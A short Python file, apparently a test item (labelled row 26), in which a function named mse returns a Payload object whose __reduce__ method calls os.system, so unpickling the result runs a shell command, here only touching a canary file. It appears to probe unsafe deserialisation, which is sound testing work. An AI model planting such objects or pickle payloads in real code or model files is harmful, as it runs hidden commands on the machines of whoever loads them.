"""Answers with an object that runs code wherever it is unpickled.

row: 26
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY_FOLDER/unpickled",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def mse(pred, target):
    return Payload()
